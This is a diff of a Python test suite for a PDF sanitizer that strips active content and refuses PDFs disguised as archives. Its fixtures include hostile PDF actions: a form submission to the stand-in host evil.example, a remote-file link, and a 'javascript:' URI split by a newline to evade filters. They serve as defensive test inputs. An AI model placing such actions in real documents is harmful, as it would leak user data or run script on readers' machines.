@@ -1,6 +1,7 @@
 """What acts in a PDF is gone afterwards, wherever it was hidden; what one reads stays, and a sound signature holds."""
 
 import io
+import zipfile
 import zlib
 from collections.abc import Callable
 
@@ -84,8 +85,8 @@ HOSTILE = {
     "sending a form": (
         annotated(Dictionary(Subtype=Name.Widget, A=action("SubmitForm", F=String("http://evil.example")))), {SCRIPTS}),
     "fetching data": (annotated(Dictionary(Subtype=Name.Link, A=action("ImportData", F=String("payload")))), {SCRIPTS}),
-    "another file": (annotated(Dictionary(Subtype=Name.Link, A=action("GoToR", F=String("\\\\evil.example\\a")))), {LINKS}),
-    "an embedded file's page": (annotated(Dictionary(Subtype=Name.Link, A=action("GoToE", F=String("payload")))), {LINKS}),
+    "another file": (annotated(Dictionary(Subtype=Name.Link, A=action("GoToR", F=String("evil.example")))), {LINKS}),
+    "an embedded page": (annotated(Dictionary(Subtype=Name.Link, A=action("GoToE", F=String("payload")))), {LINKS}),
     "a link that is a script": (
         annotated(Dictionary(Subtype=Name.Link, A=action("URI", URI=String("java\nscript:owned()")))), {LINKS}),
     "a link to a share": (
@@ -274,10 +275,29 @@ def test_a_picture_counts_by_its_size_in_pixels() -> None:
 def test_a_document_that_is_an_archive_too_is_refused() -> None:
     def change(document: Pdf) -> None:
         hidden = packed({"payload.txt": b"payload"})
+        picture = Stream(document, hidden, Filter=Name.DCTDecode)
+        document.pages[0].obj.Resources.XObject = Dictionary(X=document.make_indirect(picture))
+
+    assert refusal(pdf(change))[0] == "upload_disguised"
+
+
+def test_an_archive_that_only_lies_in_a_document_is_packed_away() -> None:
+    def change(document: Pdf) -> None:
+        hidden = packed({"payload.txt": b"payload"}, method=zipfile.ZIP_STORED)
         document.pages[0].obj.Contents = document.make_indirect(Stream(document, hidden))
 
     content = pdf(change, compress_streams=False)
-    assert refusal(content)[0] == "upload_disguised"
+    assert zipfile.is_zipfile(io.BytesIO(content))
+    assert not zipfile.is_zipfile(io.BytesIO(clean(content)[1]))
+
+
+def test_a_document_does_not_grow() -> None:
+    """Links of web pages and tags of Word are thousands of small objects, packed together."""
+    links = [Dictionary(Subtype=Name.Link, A=action("URI", URI=String(f"https://a.cn/{n}"))) for n in range(3_000)]
+    with pikepdf.open(io.BytesIO(annotated(*links))) as document:
+        target = io.BytesIO()
+        document.save(target, object_stream_mode=pikepdf.ObjectStreamMode.generate)
+    assert len(clean(target.getvalue())[1]) < target.tell() * 1.1
 
 
 def test_what_hangs_behind_a_document_is_cut_off() -> None:
